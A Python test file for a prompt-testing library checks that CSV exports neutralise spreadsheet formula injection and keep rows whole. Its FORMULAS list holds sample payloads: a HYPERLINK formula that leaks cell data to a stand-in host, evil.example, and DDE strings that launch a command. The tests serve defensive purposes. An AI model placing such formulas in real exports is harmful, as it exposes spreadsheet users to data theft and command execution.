"""CSV exports can't run formulas or split rows (issue 10, item 14).

A model's output (or an input) such as ``=HYPERLINK(...)`` was written
verbatim, and a spreadsheet runs it; a bare carriage return inside a field
was written unquoted, which splits the row. CSV cells starting with a
formula character get a leading ``'``; JSONL and Parquet keep the text.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

import promptlab as pl
from promptlab.release.export import defuse_formula
from promptlab.runner.progress import NullDisplay
from promptlab.testing import fake_model

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
AWKWARD = ["first line\rsecond line", 'quote " and, comma', "line\nbreak", "plain text"]


@pytest.fixture
def trials(lab: pl.Lab) -> pd.DataFrame:
    """One trial per text; the echo model answers with the text itself."""
    rows = [{"text": text} for text in FORMULAS + AWKWARD]
    lab.sweep(pl.Prompt("{{ text }}", name="echo"), fake_model("echo"), rows, display=NullDisplay())
    found = lab.trials()
    assert sorted(found["output"]) == sorted(FORMULAS + AWKWARD)
    return found


def test_formula_cells_are_defused_and_no_row_is_split(lab: pl.Lab, trials: pd.DataFrame, tmp_path: Path) -> None:
    path = lab.export_trials(tmp_path / "trials.csv")

    with path.open(newline="", encoding="utf-8") as handle:
        records = list(csv.DictReader(handle))
    assert len(records) == len(trials), "a carriage return inside a field doesn't split its row"
    outputs = {record["output"] for record in records}
    assert outputs == {f"'{text}" for text in FORMULAS} | set(AWKWARD)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for record in records:
        for column, cell in record.items():
            assert not cell.startswith(dangerous), (column, cell)

    read_back = pd.read_csv(path)
    assert len(read_back) == len(trials)
    assert set(read_back["output"]) == outputs
    assert {json.loads(v)["text"] for v in read_back["vars"]} == set(FORMULAS + AWKWARD), "JSON cells are intact"


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
def test_other_formats_keep_the_text_as_it_is(lab: pl.Lab, trials: pd.DataFrame, tmp_path: Path, suffix: str) -> None:
    path = lab.export_trials(tmp_path / f"trials{suffix}")
    read_back = pd.read_json(path, lines=True) if suffix == ".jsonl" else pd.read_parquet(path)
    assert set(read_back["output"]) == set(FORMULAS + AWKWARD)


def test_defuse_formula_leaves_everything_else_alone() -> None:
    assert defuse_formula("=1+1") == "'=1+1"
    assert defuse_formula("a=1") == "a=1"
    assert defuse_formula(-3) == -3, "numbers are numbers, not formulas"
    assert defuse_formula(None) is None
